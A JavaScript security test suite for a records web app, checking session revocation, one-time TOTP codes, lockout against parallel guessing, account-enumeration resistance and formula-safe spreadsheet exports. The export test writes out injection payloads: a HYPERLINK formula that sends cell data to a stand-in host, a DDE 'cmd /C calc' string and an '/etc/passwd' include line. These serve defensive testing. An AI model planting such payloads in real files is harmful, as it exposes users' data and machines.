// What somebody with ill will tries who has an account, or had one: sessions that should have ended, codes used twice, guesses all at once,
// values that a program which opens our files would carry out. On SQLite and on PostgreSQL. What is tried on secrets: secrets.mjs.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import { join } from 'node:path';
import { before, describe, test } from 'node:test';
import { codeOf } from '../browser/support/authenticator.mjs';
import { password, sitesOn, uuid } from './support/site.mjs';

// The parts of an .xlsx as texts, by name.
function partsOf(bytes) {
  const parts = {};
  const end = bytes.lastIndexOf('PK\x05\x06', undefined, 'latin1');
  let at = bytes.readUInt32LE(end + 16);
  for (let n = bytes.readUInt16LE(end + 10); n > 0; --n) {
    const [packed, label, extra, comment, head] = [bytes.readUInt32LE(at + 20), bytes.readUInt16LE(at + 28), bytes.readUInt16LE(at + 30), bytes.readUInt16LE(at + 32), bytes.readUInt32LE(at + 42)];
    const from = head + 30 + bytes.readUInt16LE(head + 26) + bytes.readUInt16LE(head + 28);
    const data = bytes.subarray(from, from + packed);
    parts[bytes.toString('utf8', at + 46, at + 46 + label)] = (bytes.readUInt16LE(at + 10) === 8 ? inflateRawSync(data) : data).toString('utf8');
    at += 46 + label + extra + comment;
  }
  return parts;
}
const median = (times) => times.sort((a, b) => a - b)[times.length >> 1];

function scenario(name, database) {
  describe(name, () => {
    const newSite = sitesOn(database);
    let site;
    before(async () => {
      site = newSite().init();
      site.openAccounts([['first', '999001000000', 'officer'], ['second', '999001000000', 'officer'], ['third', '999001000000', 'officer'], ['fourth', '999001000000', 'officer']]);
      await site.serve();
    });
    const signIn = (login, more = {}) => site.raw('POST', '/api/v1/session', { 'Content-Type': 'application/json' }, JSON.stringify({ login, password, ...more }));
    const admin = (move, login, more = {}) => site.post('secadmin', '/api/v1/commands', { id: uuid(), type: 'account', move, login, ...more });
    // Attempts are counted by address in the server's memory.
    const freshAttempts = async () => { await site.stop(); await site.serve(); };

    // A stream of live events: resolves with how it ended.
    async function stream(login) {
      const answer = await fetch(site.address + '/api/v1/events', { headers: { Authorization: 'Bearer ' + (await site.token(login)) } });
      assert.equal(answer.status, 200);
      const reader = answer.body.getReader();
      const ended = (async () => { for (;;) if ((await reader.read()).done) return 'ended'; })();
      const within = (ms) => Promise.race([ended, new Promise((done) => setTimeout(done, ms, 'still open'))]);
      return { within, close: () => reader.cancel().catch(() => {}) };
    }

    test('live events: nobody without a session; they end with the session, the role, the account and the password', async () => {
      assert.equal((await site.raw('GET', '/api/v1/events')).status, 401);
      const untouched = await stream('county');
      const org = await site.orgId('county', '花溪市');
      const grant = site.sql("select g.id from role_grant g join account a on a.id = g.account where a.login = 'second'")[0][0];
      for (const [login, end] of [
        ['first', () => site.request('first', 'DELETE', '/api/v1/session')],
        ['second', () => admin('revoke', 'second', { grant })],
        ['third', () => admin('password', 'third', { password: 'Xin-de-mi-ma-2026' })],
        ['fourth', () => admin('disable', 'fourth')],
      ]) {
        const open = await stream(login);
        const done = await end();
        assert.equal(done.status, 200, done.text);
        assert.equal(await open.within(5_000), 'ended', login);
      }
      assert.equal(await untouched.within(50), 'still open');
      await untouched.close();
      // And the sessions themselves: the next request of any kind.
      for (const login of ['first', 'second', 'third', 'fourth'])
        for (const [method, path, body] of [['GET', '/api/v1/today'], ['GET', '/api/v1/records/core.person'], ['GET', '/api/v1/events'], ['GET', '/api/v1/sheets/core.person'], ['POST', '/api/v1/commands', { id: uuid(), type: 'core.donor', move: 'enter', values: { name: '甲', kind: 'person' } }]])
          assert.equal((await site.request(login, method, path, body)).status, 401, `${login} ${method} ${path}`);
      // Signed in again without a role she has no right.
      delete site.tokens.second;
      assert.equal((await site.get('second', '/api/v1/session')).status, 200);
      for (const path of ['/api/v1/records/core.person', '/api/v1/sheets/core.person', '/api/v1/ledger/spring_bud.spring_bud']) assert.notEqual((await site.get('second', path)).status, 200, path);
      const refused = await site.command('second', { type: 'core.donor', move: 'enter', values: { name: '甲', kind: 'person' } });
      assert.ok(refused.status >= 400 && refused.status < 500, refused.text);
      assert.equal((await admin('grant', 'second', { org, role: 'officer' })).status, 200);
      delete site.tokens.second;   // which role she acts in is chosen when she signs in
      assert.equal((await site.get('second', '/api/v1/records/core.person')).status, 200);
    });

    test('a code of an authenticator counts once, also where two are sent at the same time; a wrong one counts as a wrong password', async () => {
      await freshAttempts();
      const { secret } = (await site.post('county', '/api/v1/session/totp', { password })).json;
      assert.equal((await site.request('county', 'PUT', '/api/v1/session/totp', { code: codeOf(secret, -1) })).status, 200);
      assert.equal((await signIn('county')).json.code, 'totp_needed');
      for (const old of [-1, -2, -20, 3]) assert.equal((await signIn('county', { code: codeOf(secret, old) })).json.code, 'totp_wrong', `${old} steps off`);
      const code = codeOf(secret);
      const both = await Promise.all([signIn('county', { code }), signIn('county', { code }), signIn('county', { code })]);
      assert.deepEqual(both.map((answer) => answer.status).sort(), [200, 401, 401], both.map((answer) => answer.text).join('\n'));
      for (let n = 0; n < 4; ++n) await signIn('county', { code });
      assert.equal((await signIn('county', { code: codeOf(secret, 1) })).json.code, 'login_locked');
      assert.equal((await admin('unlock', 'county')).status, 200);
      assert.equal((await admin('no_totp', 'county')).status, 200);
    });

    test('guesses sent all at once are counted one by one', async () => {
      await freshAttempts();
      await Promise.all(Array.from({ length: 6 }, () => signIn('township', { password: 'Cai-yi-cai-2026' })));
      assert.equal((await signIn('township')).json.code, 'login_locked');
      assert.equal((await admin('unlock', 'township')).status, 200);
      assert.equal((await signIn('township')).status, 200);
    });

    test('a lock does not tell that there is such an account', async () => {
      await freshAttempts();
      const tried = async (login) => { const codes = []; for (let n = 0; n < 7; ++n) codes.push((await signIn(login, { password: 'Cai-yi-cai-2026' })).json.code); return codes; };
      const [known, unknown] = [await tried('township'), await tried('nobody.here')];
      assert.deepEqual(unknown, known);
      assert.equal(known.at(-1), 'login_locked');
      assert.equal((await admin('unlock', 'township')).status, 200);
    });

    test('an unknown name and a wrong password say the same and take as long', async () => {
      await freshAttempts();
      const timed = async (login) => {
        const from = performance.now();
        const answer = await signIn(login, { password: 'Cai-yi-cai-2026' });
        return { ms: performance.now() - from, said: [answer.status, answer.json.code, answer.json.detail] };
      };
      const known = [], unknown = [];
      for (let n = 0; n < 3; ++n)
        for (const login of ['village', 'cashier', 'chair']) {
          const [a, b] = [await timed(login), await timed(`${login}-${n}`)];
          assert.deepEqual(a.said, b.said);
          known.push(a.ms);
          unknown.push(b.ms);
        }
      const ratio = median(known) / median(unknown);
      assert.ok(ratio < 1.6 && ratio > 1 / 1.6, `a known name takes ${ratio.toFixed(2)} times as long`);
    });

    test('names that would be formulas, markup or entries elsewhere are text in every file that we give out', async () => {
      await freshAttempts();
      const bad = ['=HYPERLINK("http://x.invalid/?"&A1,"看")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '</t></is></c><c><f>1+1</f></c>', '甲\n  assets:bank  1000', '2026-01-01 open assets:mine', '; include /etc/passwd'];
      const taken = [];
      for (const text of bad) {
        const made = await site.command('village', { type: 'core.person', move: 'enter', values: { name: text.slice(0, 40), sex: 'female', birth: '2014-03-11' } });
        assert.ok([200, 422, 400].includes(made.status), made.text);
        if (made.status === 200) taken.push(text.slice(0, 40));
        const donor = await site.command('county', { type: 'core.donor', move: 'enter', values: { name: text.slice(0, 40), kind: 'person' } });
        assert.ok(donor.status < 500, donor.text);
      }
      assert.ok(taken.length >= 4, 'some are taken as they are');
      for (const type of ['core.person', 'core.donor']) {
        const answer = await fetch(site.address + '/api/v1/sheets/' + type, { headers: { Authorization: 'Bearer ' + (await site.token('county')) } });
        assert.equal(answer.status, 200);
        const parts = partsOf(Buffer.from(await answer.arrayBuffer()));
        const sheets = Object.entries(parts).filter(([part]) => part.startsWith('xl/worksheets/'));
        assert.ok(sheets.length > 0);
        for (const [part, text] of sheets) assert.ok(!/<f[ >/]/.test(text), `${type} ${part} has a formula`);
        assert.ok(!Object.values(parts).join('').includes('<f>1+1'), type);
        assert.ok(Object.values(parts).join('').includes('@SUM(1,2)'), 'the text is there');
      }
      // And comes back in as the same text.
      const sheet = join(site.folder, 'people.xlsx');
      const bytes = Buffer.from(await (await fetch(site.address + '/api/v1/sheets/core.donor', { headers: { Authorization: 'Bearer ' + (await site.token('county')) } })).arrayBuffer());
      writeFileSync(sheet, bytes);
      const csv = site.run('sheet', sheet, '--csv');
      assert.ok(csv.includes('=HYPERLINK'), csv);
    });

    test('a filter goes by no path to a record that the page would not open', async () => {
      const [mine, hers] = [uuid(), uuid()], west = await site.orgId('township', '西偏坨村');
      const enter = (record, type, values, more = {}) => site.command('township', { type, move: 'enter', record, values, ...more });
      const east = (await site.get('village', '/api/v1/meta')).json.org;
      assert.equal((await enter(mine, 'core.person', { name: '李小河', sex: 'male' }, { org: east })).status, 200);
      assert.equal((await enter(hers, 'core.person', { name: '李小溪', sex: 'female', birth: '2016-01-02' }, { org: west })).status, 200);
      assert.equal((await enter(uuid(), 'core.kin', { person: mine, relative: hers, relation: 'sibling' })).status, 200);
      assert.equal((await site.get('village', `/api/v1/records/core.person/${hers}`)).status, 404);
      const count = async (login, where) => (await site.get(login, `/api/v1/records/core.kin?count=1&where=${encodeURIComponent(where)}`)).json.count;
      for (const where of ["relative.sex == 'female'", "relative.sex == 'male'", 'year(relative.birth) == 2016', 'relative.birth != null']) assert.equal(await count('village', where), 0, where);
      for (const sex of ['female', 'male']) assert.equal(await count('village', `relative.sex != '${sex}'`), 1, 'empty to her, whichever it is');
      assert.deepEqual([await count('township', "relative.sex == 'female'"), await count('township', "relative.sex == 'male'"), await count('village', "person.sex == 'male'"), await count('village', "person.sex == 'female'")], [1, 0, 1, 0]);
      const back = async (login) => (await site.get(login, `/api/v1/records/core.person?count=1&where=${encodeURIComponent('kin.exists(k, k.relation == "sibling")')}`)).json;
      assert.equal((await back('village')).count, 1);
    });

    test('a version that the server does not have yet hides no conflict: it was set back to a copy', async () => {
      const record = uuid(), village = (body) => site.command('village', { type: 'core.person', record, ...body });
      assert.equal((await village({ move: 'enter', values: { name: '赵小岸', sex: 'female', birth: '1990-01-01' } })).status, 200);
      const refused = await village({ move: 'edit', base: 99, saw: { birth: '1991-02-02' }, values: { birth: '1992-03-03' } });
      assert.deepEqual([refused.status, refused.json.problems.map((problem) => problem.code)], [422, ['conflict']], refused.text);
      assert.equal((await village({ move: 'edit', base: 99, saw: { birth: '1990-01-01' }, values: { birth: '1992-03-03' } })).status, 200);
    });
  });
}

scenario('SQLite', 'sqlite');
scenario('PostgreSQL', 'postgresql');
